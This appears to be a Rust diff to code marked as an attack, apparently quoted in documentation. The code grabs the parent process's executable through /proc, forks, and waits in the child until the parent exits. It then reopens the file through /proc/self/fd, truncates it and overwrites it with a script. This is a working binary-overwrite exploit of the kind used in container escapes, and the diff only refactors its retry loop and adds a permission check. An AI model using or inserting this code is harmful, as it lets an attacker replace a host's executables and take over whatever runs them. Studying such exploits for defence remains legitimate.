@@ -23,6 +23,9 @@ const PATIENCE: Duration = Duration::from_secs(5);
 pub fn wait(_: &[String]) -> Result<String, String> {
     let exe = format!("/proc/{}/exe", getppid());
     let held = told(&format!("open {exe}"), File::open(&exe))?;
+    if let Err(errno @ (Errno::EROFS | Errno::EPERM)) = open_again(&held) {
+        return Err(format!("open {exe} for writing: {errno:?}"));
+    }
     // SAFETY: this process has one thread.
     match told("fork", unsafe { fork() })? {
         ForkResult::Parent { .. } => return Ok(format!("holding {exe}")),
@@ -38,15 +41,18 @@ pub fn wait(_: &[String]) -> Result<String, String> {
 }
 
 fn overwrite(held: &File) -> Result<(), Errno> {
-    let (again, start) = (format!("/proc/self/fd/{}", held.as_raw_fd()), Instant::now());
+    let start = Instant::now();
     loop {
-        match File::options().write(true).truncate(true).open(&again) {
-            Ok(mut file) => return file.write_all(SCRIPT.as_bytes()).map_err(|_| Errno::last()),
-            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && start.elapsed() < PATIENCE => {
-                std::thread::sleep(Duration::from_millis(2));
-            }
-            Err(error) => return Err(Errno::from_raw(error.raw_os_error().unwrap_or(0))),
+        match open_again(held) {
+            Err(Errno::ETXTBSY) if start.elapsed() < PATIENCE => std::thread::sleep(Duration::from_millis(2)),
+            opened => return opened?.write_all(SCRIPT.as_bytes()).map_err(|_| Errno::last()),
         }
     }
+}
+
+fn open_again(held: &File) -> Result<File, Errno> {
+    let opened =
+        File::options().write(true).truncate(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
+    opened.map_err(|error| Errno::from_raw(error.raw_os_error().unwrap_or(0)))
 }
 // ANCHOR_END: attack
